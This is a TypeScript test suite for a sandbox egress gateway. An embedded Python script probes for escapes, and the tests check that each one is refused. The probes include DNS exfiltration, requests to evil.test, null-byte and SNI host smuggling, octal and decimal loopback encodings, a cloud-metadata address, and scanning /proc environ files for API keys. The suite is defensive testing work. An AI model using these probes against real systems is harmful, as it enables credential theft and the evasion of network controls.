import { execFile } from 'node:child_process'
import { createSocket, type Socket } from 'node:dgram'
import { createServer, type Server } from 'node:net'
import type { AddressInfo } from 'node:net'
import { networkInterfaces } from 'node:os'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { contain, outputOf } from './contained.ts'
import { openTlsServer } from './tls-server.ts'
import { openWorld, type World } from './world.ts'

const KEY = 'sk-a-real-key-that-no-agent-sees'
/**
 * Tries everything and prints what came of it, as JSON. `argv[1]`: port on which the host listens, on its loopback by
 * TCP, UDP and IPv6 and at the address of its own in `argv[2]`. `argv[3]` and on: names of the only attempts.
 */
const PROBES = String.raw`
import json, os, socket, ssl, subprocess, sys
port = int(sys.argv[1]); own = sys.argv[2]
found = {}
def attempt(name, what):
    if sys.argv[3:] and name not in sys.argv[3:]: return
    try: found[name] = what()
    except ConnectionResetError: found[name] = 'reset'
    except ConnectionRefusedError: found[name] = 'refused'
    except ssl.SSLError as error: found[name] = 'tls: ' + str(error.reason)
    except OSError as error: found[name] = 'oserror: ' + (os.strerror(error.errno) if error.errno else str(error))
def tcp(host, port, family=socket.AF_INET):
    s = socket.socket(family, socket.SOCK_STREAM); s.settimeout(8); s.connect((host, port)); return s
def ask(s, data):
    s.sendall(data)
    out = b''
    while True:
        piece = s.recv(65536)
        if not piece: break
        out += piece
    return out.decode('latin1')
def verdict(text):
    head, _, body = text.partition('\r\n\r\n')
    status = head.split(' ')[1] if head else 'closed'
    try: return status + ' ' + json.loads(body)['code']
    except Exception: return status + ' ' + body[:60]
def get(host, ip=None, path='/', header=None):
    s = tcp(ip or socket.gethostbyname(host), 80)
    return verdict(ask(s, ('GET %s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n' % (path, header or host)).encode('latin1')))
def tls(sni, host, ip=None):
    raw = tcp(ip or socket.gethostbyname(sni), 443)
    s = ssl.create_default_context().wrap_socket(raw, server_hostname=sni)
    return verdict(ask(s, ('GET / HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n' % host).encode()))
def no_sni(ip):
    context = ssl.create_default_context(); context.check_hostname = False; context.verify_mode = ssl.CERT_NONE
    context.wrap_socket(tcp(ip, 443)); return 'connected'
def proxied(line, host):
    return verdict(ask(tcp('127.0.0.1', 3128), ('%s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n' % (line, host)).encode('latin1')))
def udp(ip, to):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1); s.connect((ip, to)); s.send(b'x'); s.send(b'x'); return s.recv(10).decode()
attempt('canary', lambda: tcp('127.0.0.1', port).recv(100).decode())
attempt('canary udp', lambda: udp('127.0.0.1', port))
attempt('canary ipv6', lambda: tcp('::1', port, socket.AF_INET6).recv(100).decode())
attempt('canary of the machine', lambda: tcp(own, port).recv(100).decode())
attempt('http', lambda: get('plain.example.com'))
attempt('https', lambda: tls('api.example.com', 'api.example.com'))
attempt('unlisted', lambda: get('evil.test'))
attempt('literal 80', lambda: get('1.2.3.4', '1.2.3.4'))
attempt('literal 80 with a host', lambda: get('plain.example.com', '1.2.3.4'))
attempt('literal 443', lambda: no_sni('1.2.3.4'))
attempt('literal 443 with a name', lambda: tls('api.example.com', 'api.example.com', '1.2.3.4'))
attempt('literal 22', lambda: tcp('1.2.3.4', 22).recv(10).decode())
attempt('ipv6', lambda: tcp('2606:4700::1111', 80, socket.AF_INET6).recv(10).decode())
attempt('udp', lambda: udp('1.1.1.1', 4433))
attempt('dns', lambda: socket.gethostbyname('secret-data.x.test').rsplit('.', 2)[0])
attempt('dns elsewhere', lambda: udp('8.8.8.8', 53))
attempt('sni', lambda: tls('api.example.com', 'evil.test'))
attempt('pinned', lambda: get('evil.test', socket.gethostbyname('plain.example.com')))
attempt('null byte', lambda: get('plain.example.com', None, '/', 'plain.example.com\0.evil.test'))
attempt('connect 22', lambda: proxied('CONNECT plain.example.com:22', 'plain.example.com:22'))
attempt('connect literal', lambda: proxied('CONNECT 1.2.3.4:443', '1.2.3.4:443'))
attempt('decimal', lambda: proxied('GET http://2130706433/', '2130706433'))
attempt('octal', lambda: proxied('GET http://0177.0.0.1/', '0177.0.0.1'))
attempt('loopback name', lambda: get('inner.example.com'))
attempt('metadata', lambda: get('metadata.example.com'))
attempt('key', lambda: ' '.join(v for v in os.environ.values() if v.startswith('sk-')) or 'none')
attempt('placeholder', lambda: os.environ['TOKEN'][:12])
def environs():
    count = 0
    for pid in filter(str.isdigit, os.listdir('/proc')):
        try: count += (b'sk-' + b'a-real-key') in open('/proc/%s/environ' % pid, 'rb').read()
        except OSError: pass
    return str(count)
attempt('environ', environs)
print(json.dumps(found))
`
let canaries: (Server | Socket)[]
let port: number
/** An address of this machine that is not its loopback, where it has one. */
const OWN =
  Object.values(networkInterfaces())
    .flat()
    .find((one) => one?.family === 'IPv4' && !one.internal)?.address ?? null
let world: World
let tls: Awaited<ReturnType<typeof openTlsServer>>
const resolved: string[] = []
let found: Record<string, string>

beforeAll(async () => {
  const canary = createServer((socket) => socket.end('canary'))
  await new Promise<void>((resolve) => canary.listen(0, '0.0.0.0', resolve))
  port = (canary.address() as AddressInfo).port
  const six = createServer((socket) => socket.end('canary'))
  await new Promise<void>((resolve) => six.listen({ port, host: '::1', ipv6Only: true }, resolve))
  const datagrams = createSocket('udp4')
  datagrams.on('message', (_data, from) => datagrams.send('canary', from.port, from.address))
  await new Promise<void>((resolve) => datagrams.bind(port, '127.0.0.1', resolve))
  canaries = [canary, six, datagrams]
  tls = await openTlsServer(['api.example.com'], (asked, response) =>
    response.end(`key ${String(asked.headers.authorization)}`),
  )
  world = await openWorld({
    policy: `version: 1
agents:
  robot:
    egress:
      - { host: api.example.com, upstream: 'https://api.example.com:${tls.port}' }
      - { host: plain.example.com, upstream: 'http://SERVER' }
      - { host: inner.example.com }
      - { host: metadata.example.com }
secrets: { TOKEN: { value: $REAL, hosts: [api.example.com] } }
`,
    egress: {
      env: { REAL: KEY },
      trusted: [tls.authority],
      async resolve(host) {
        resolved.push(host)
        return host === 'metadata.example.com' ? ['169.254.169.254'] : ['127.0.0.1']
      },
    },
  })
  const sandbox = await contain(world, world.egress, [
    'python3',
    '-c',
    PROBES,
    String(port),
    OWN ?? '127.0.0.1',
  ])
  const text = await outputOf(sandbox)
  found = JSON.parse(text.trim().split('\n').at(-1)!) as Record<string, string>
}, 60_000)

afterAll(async () => {
  await world.close()
  for (const each of canaries) each.close()
  tls.close()
})

describe('out of the sandbox there is', () => {
  it.each([
    ['the host’s own loopback', 'canary', /^refused$/],
    ['the host’s own loopback by UDP', 'canary udp', /^(refused|oserror: .*)$/],
    ['the host’s own loopback by IPv6', 'canary ipv6', /^(refused|oserror: .*)$/],
    ['an address of the host', 'canary of the machine', /^refused$/],
    ['a host that nobody admitted', 'unlisted', /^403 egress:no_entry$/],
    ['an address on port 80', 'literal 80', /^403 egress:address$/],
    ['an address with the name of an admitted host', 'literal 80 with a host', /^403 egress:address$/],
    ['an address on port 443', 'literal 443', /^(reset|tls: .*|oserror: .*)$/],
    [
      'an address on port 443 with an admitted name',
      'literal 443 with a name',
      /^(reset|tls: .*|oserror: .*)$/,
    ],
    ['another port', 'literal 22', /^refused$/],
    ['IPv6', 'ipv6', /^(refused|oserror: .*)$/],
    ['UDP', 'udp', /^refused$/],
    ['another name server', 'dns elsewhere', /^refused$/],
    ['a host behind the name of another, in TLS', 'sni', /^403 egress:host_mismatch$/],
    ['a host behind the address of another', 'pinned', /^403 egress:host_mismatch$/],
    ['a host with a null byte', 'null byte', /^400 egress:malformed$/],
    ['a tunnel to another port', 'connect 22', /^403 egress:port$/],
    ['a tunnel to an address', 'connect literal', /^403 egress:address$/],
    ['loopback as one number', 'decimal', /^403 egress:address$/],
    ['loopback in octal', 'octal', /^403 egress:address$/],
    ['an admitted name that is this machine', 'loopback name', /^403 egress:private_address$/],
    ['an admitted name that is link-local', 'metadata', /^403 egress:private_address$/],
    ['a real key in the environment', 'key', /^none$/],
    ['a real key in the environment of any process', 'environ', /^0$/],
  ])('no %s', (_what, probe, expected) => {
    expect(found[probe]).toMatch(expected)
  })

  it('a made-up address for every name, and no query for any that is not admitted', () => {
    expect(found['dns']).toMatch(/^198\.(18|19)$/)
    expect(new Set(resolved)).toEqual(
      new Set(['api.example.com', 'inner.example.com', 'metadata.example.com']),
    )
  })

  it('what is admitted, and a record of everything', async () => {
    expect(found['http']).toBe('200 hello')
    expect(found['https']).toBe('200 key undefined')
    expect(found['placeholder']).toBe('belay_TOKEN_')
    await world.settled()
    const actions = await world.actions()
    const codes = actions.flatMap(({ reasons }) => reasons.map(({ code }) => code))
    expect(codes).toEqual(
      expect.arrayContaining([
        'egress:no_entry',
        'egress:address',
        'egress:host_mismatch',
        'egress:port',
        'egress:malformed',
      ]),
    )
    expect(actions.filter(({ state }) => state.name === 'succeeded')).toHaveLength(2)
  })
})

describe('without its layer', () => {
  it('outside the sandbox, the same probes reach the loopback and find the key', async () => {
    const only = ['canary', 'canary udp', 'canary ipv6', 'canary of the machine', 'key', 'environ']
    const text = await new Promise<string>((resolve) =>
      execFile(
        'python3',
        ['-c', PROBES, String(port), OWN ?? '127.0.0.1', ...only],
        { timeout: 50_000, env: { ...process.env, TOKEN: KEY } },
        (_error, stdout) => resolve(stdout),
      ),
    )
    const open = JSON.parse(text.trim().split('\n').at(-1)!) as Record<string, string>
    for (const name of only.slice(0, 4)) expect(open[name]).toBe('canary')
    expect(open['key']).toBe(KEY)
    expect(Number(open['environ'])).toBeGreaterThan(0)
  }, 60_000)

  it('an entry that admits, and says private, opens each of the ways that were closed', async () => {
    const loose = await openWorld({
      policy: `version: 1
agents:
  robot:
    egress:
      - { host: evil.test, upstream: 'http://SERVER' }
      - { host: plain.example.com, upstream: 'http://SERVER' }
      - { host: inner.example.com, upstream: 'http://SERVER' }
      - { host: metadata.example.com, upstream: 'http://SERVER' }
`,
      egress: { resolve: async () => ['127.0.0.1'] },
    })
    try {
      const text = await outputOf(
        await contain(loose, loose.egress, [
          'python3',
          '-c',
          PROBES.replace("os.environ['TOKEN']", "''"),
          String(port),
          OWN ?? '127.0.0.1',
        ]),
      )
      const opened = JSON.parse(text.trim().split('\n').at(-1)!) as Record<string, string>
      for (const probe of ['http', 'unlisted', 'loopback name', 'metadata'])
        expect(opened[probe]).toBe('200 hello')
      // The refusals of the gateway itself hold whatever the entries say.
      expect(opened['pinned']).toBe('403 egress:host_mismatch')
    } finally {
      await loose.close()
    }
  }, 60_000)

  it('when the gateway is closed nothing leaves at all', async () => {
    const own = await openWorld({
      policy: `version: 1\nagents: { robot: { egress: [{ host: plain.example.com, upstream: 'http://SERVER' }] } }\n`,
    })
    try {
      const script =
        'curl -s -m 5 -o /dev/null -w "%{http_code}\\n" http://plain.example.com/; read line; curl -s -m 5 -o /dev/null -w "%{http_code}\\n" http://plain.example.com/'
      const sandbox = await contain(own, own.egress, ['sh', '-c', script])
      let text = ''
      const first = Promise.withResolvers<void>()
      sandbox.stdout!.on('data', (piece: Buffer) => {
        text += piece.toString()
        first.resolve()
      })
      await first.promise
      await own.egress.close()
      sandbox.stdin!.write('go on\n')
      await sandbox.exited
      expect(text).toBe('200\n000\n')
      expect(own.asked).toHaveLength(1)
    } finally {
      await own.close()
    }
  }, 60_000)
})

describe('clients that know nothing of the gateway', () => {
  it.each([
    ['curl', ['curl', '-sS', '-m', '10', '-H', 'Authorization: Bearer $TOKEN', 'https://api.example.com/']],
    [
      'Python',
      [
        'python3',
        '-c',
        'import os,urllib.request as u; print(u.urlopen(u.Request("https://api.example.com/", headers={"Authorization": "Bearer " + os.environ["TOKEN"]})).read().decode())',
      ],
    ],
    [
      'OpenSSL',
      [
        'sh',
        '-c',
        'printf "GET / HTTP/1.1\\r\\nHost: api.example.com\\r\\nAuthorization: Bearer $TOKEN\\r\\nConnection: close\\r\\n\\r\\n" | openssl s_client -quiet -verify_return_error -verify_hostname api.example.com -servername api.example.com -connect api.example.com:443',
      ],
    ],
  ])(
    'trust it, and their key is put in: %s',
    async (_name, command) => {
      const line = command
        .map((word) => (word.includes('$TOKEN') && command[0] === 'curl' ? `"${word}"` : `'${word}'`))
        .join(' ')
      const text = await outputOf(
        await contain(world, world.egress, command[0] === 'curl' ? ['sh', '-c', line] : command),
      )
      // The server has told the key; on the way back it is stars.
      expect(text).toContain(`key Bearer ${'*'.repeat(KEY.length)}`)
      expect(text).not.toContain(KEY)
    },
    60_000,
  )
})
